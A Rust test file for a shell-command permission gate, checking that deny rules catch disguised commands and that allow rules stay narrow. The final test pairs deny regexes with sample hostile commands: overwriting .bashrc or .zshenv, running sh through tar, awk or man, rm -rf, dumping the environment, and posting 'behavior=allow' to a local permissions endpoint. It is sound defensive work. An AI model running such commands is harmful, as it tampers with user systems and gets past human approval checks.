//! Rules over the real reader of commands: what an allow entry can never reach, what a deny entry always does.

#![allow(missing_docs, clippy::unwrap_used, reason = "helpers of tests may fail the test")]

use haltgate::rules::{Entry, Found, ListKind, RuleList, Target, TextPattern};
use haltgate::shell::{Analysis, Dialect, analyze};
use proptest::prelude::*;

fn list(kind: ListKind, pattern: TextPattern) -> RuleList {
    RuleList::compile(kind, vec![Entry::Shell { pattern, rate: None }]).unwrap()
}

fn glob(kind: ListKind, pattern: &str) -> RuleList {
    list(kind, TextPattern::Glob(pattern.to_owned()))
}

fn exact(kind: ListKind, pattern: &str) -> RuleList {
    list(kind, TextPattern::Exact(pattern.to_owned()))
}

fn matches(list: &RuleList, analysis: &Analysis) -> bool {
    list.find(&Target::Shell(analysis)) != Found::None
}

/// Pieces of which a hostile caller could build a command.
fn fragment() -> impl Strategy<Value = String> {
    let pieces = vec![
        "git",
        "status",
        "push",
        "--force",
        " ",
        "  ",
        "\t",
        "\n",
        "\\\n",
        ";",
        "&&",
        "||",
        "|",
        "&",
        "(",
        ")",
        "{ ",
        "; }",
        "$(",
        "`",
        "${x",
        "}",
        "$x",
        "$((1",
        "))",
        "<",
        ">",
        ">>",
        "<<E\n",
        "\nE\n",
        "'",
        "\"",
        "\\",
        "#",
        " # ",
        "!",
        "~",
        "*",
        "=",
        "A=1 ",
        "sudo ",
        "env ",
        "bash -c ",
        "eval ",
        "if true; then ",
        "; fi",
        "ｇｉｔ",
        "\u{A0}",
        "\u{1b}[0m",
        "\u{200b}",
        "\r",
        "É",
        "\0",
    ];
    prop::sample::select(pieces).prop_map(str::to_owned)
}

fn command() -> impl Strategy<Value = String> {
    prop::collection::vec(fragment(), 0..14).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1_000, ..ProptestConfig::default() })]

    /// Invariant 52.
    #[test]
    fn no_allow_entry_reaches_anything_but_one_simple_command(text in command()) {
        let analysis = analyze(&text, Dialect::Bash);
        let single = analysis.canonical().is_some();
        prop_assert_eq!(matches(&glob(ListKind::Allow, "*"), &analysis), single);
        prop_assert_eq!(matches(&exact(ListKind::Allow, &text), &analysis), single);
        let regexp = list(ListKind::Allow, TextPattern::Regexp("[^]*".to_owned()));
        prop_assert_eq!(matches(&regexp, &analysis), single);
    }

    /// Invariant 83: what was refused stays refused, resolvable or not, whatever its case.
    #[test]
    fn a_command_that_was_denied_as_written_is_denied_again(text in command(), around in "[ \t\n]{0,2}") {
        prop_assume!(!text.trim().is_empty());
        let denied = exact(ListKind::Deny, &text);
        prop_assert!(matches(&denied, &analyze(&text, Dialect::Bash)));
        prop_assert!(matches(&denied, &analyze(&text.to_ascii_uppercase(), Dialect::Bash)));
        // A backslash at the end would quote what is put behind it.
        if !text.ends_with('\\') {
            let surrounded = [around.as_str(), &text, &around].concat();
            prop_assert!(matches(&denied, &analyze(&surrounded, Dialect::Bash)));
        }
    }

    #[test]
    fn an_allowed_spelling_is_a_denied_spelling(text in command(), pattern in command()) {
        prop_assume!(!pattern.trim().is_empty());
        let analysis = analyze(&text, Dialect::Bash);
        if matches(&exact(ListKind::Allow, &pattern), &analysis) {
            prop_assert!(matches(&exact(ListKind::Deny, &pattern), &analysis));
        }
    }

    #[test]
    fn spellings_of_one_command_are_one_command_to_an_exact_entry(words in prop::collection::vec("[a-z]{1,4}", 1..4)) {
        let plain = words.join(" ");
        let quoted = words.iter().map(|word| format!("'{word}'")).collect::<Vec<_>>().join("  ");
        prop_assume!(analyze(&plain, Dialect::Bash).canonical() == analyze(&quoted, Dialect::Bash).canonical());
        prop_assert!(matches(&exact(ListKind::Allow, &quoted), &analyze(&plain, Dialect::Bash)));
        prop_assert!(matches(&exact(ListKind::Allow, &plain), &analyze(&quoted, Dialect::Bash)));
    }
}

/// Invariant 47, and every way around an exact entry that the shell itself offers.
#[test]
fn a_denied_command_is_found_wherever_the_shell_would_run_it() {
    let deny = exact(ListKind::Deny, "npm publish");
    for text in [
        "npm publish",
        "NPM  'publish'",
        "ls; npm publish",
        "ls\nnpm publish",
        "ls & npm publish",
        "npm publish > log",
        "npm publish 2>&1",
        "(npm publish)",
        "{ npm publish; }",
        "if true; then npm publish; fi",
        "FOO=1 npm publish",
        "sudo npm publish",
        "env A=1 npm publish",
        "/usr/bin/npm publish",
        "cat <(npm publish)",
        "echo \"$(npm publish)\"",
        "echo `npm publish`",
        "bash -c 'npm publish'",
        "eval 'npm publish'",
        "npm pub\\\nlish",
        "ｎｐｍ publish",
    ] {
        assert!(matches(&deny, &analyze(text, Dialect::Bash)), "{text:?}");
    }
    for text in ["echo 'npm publish'", "echo \"a; npm publish; b\"", "ls # npm publish", "npm publish-dry"] {
        assert!(!matches(&deny, &analyze(text, Dialect::Bash)), "{text:?}");
    }
}

#[test]
fn words_in_a_comment_do_not_satisfy_an_allow_entry() {
    let allow = glob(ListKind::Allow, "npm publish *--dry-run");
    assert!(matches(&allow, &analyze("npm publish . --dry-run", Dialect::Bash)));
    for text in ["npm publish . # --dry-run", "npm publish . #--dry-run", "npm publish .\t#\t--dry-run"] {
        assert!(!matches(&allow, &analyze(text, Dialect::Bash)), "{text:?}");
    }
}

/// The regular expressions of published bypasses, each with a command that it must catch.
#[test]
fn regular_expressions_of_published_policies_work_as_written() {
    for (pattern, text) in [
        (r"^git\b.*\s--output(=|\s|$)", "git log -1 --output=.git/config"),
        (r"^sort\b.*\s--c(o|om|omp|ompr|ompre|ompres|ompress.*)\b", "sort -S 1b --compress-prog sh data.txt"),
        (r"^man\b.*\s(-P|-H|--pager|--html)", "man --html='sh ./p.sh' ls"),
        (r#"^sed\b.*[0-9;'\" ]w\s*\S"#, "sed -n 'w /home/dev/.zshenv' in.txt"),
        (
            r"^(g|m|n)?awk\b.*(system\s*\(|\|\s*getline|print[^|]*[>|])",
            "awk 'BEGIN{x=1; system(\"sh ./p.sh\")}' in.txt",
        ),
        (
            r"^tar\b.*\s(--checkpoint-a|--to-c|--use-c|--rsh-c|-I)",
            "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec=./p.sh src",
        ),
        (
            r"^curl\b.*\s(-o|-O|--output|--remote-name|-K|--config|-T|--upload-file)",
            "curl -fsS https://files.example.com/a -o /home/dev/.bashrc",
        ),
        (r"^git\b.*\bpush\b.*\s(--force\b|-[a-zA-Z]*f)", "git push -f origin main"),
        (
            r"^find\b.*\s-(delete|exec|execdir|ok|okdir|fprint|fprintf|fls)\b",
            "find build -name '*.o' -delete",
        ),
        (r"^jq\b.*\b(env|\$ENV)\b", "jq -n env"),
        (r"^rm\s", "ls; rm -rf x"),
        (
            r"^curl\b.*(127\.0\.0\.1|localhost|\[::1\]).*(permission|approve|behavior=allow)",
            "curl -s -X POST http://127.0.0.1:7777/permissions/answer -d behavior=allow",
        ),
        (r">\s*secrets\.txt", "printf x >> secrets.txt"),
    ] {
        let deny = list(ListKind::Deny, TextPattern::Regexp(pattern.to_owned()));
        assert!(matches(&deny, &analyze(text, Dialect::Bash)), "{pattern} on {text}");
    }
    let deny = list(ListKind::Deny, TextPattern::Regexp(r"^rm\s".to_owned()));
    assert!(!matches(&deny, &analyze("grep -c 'rm -f \"$body\"' /home/dev/repo/SKILL.md", Dialect::Bash)));
}
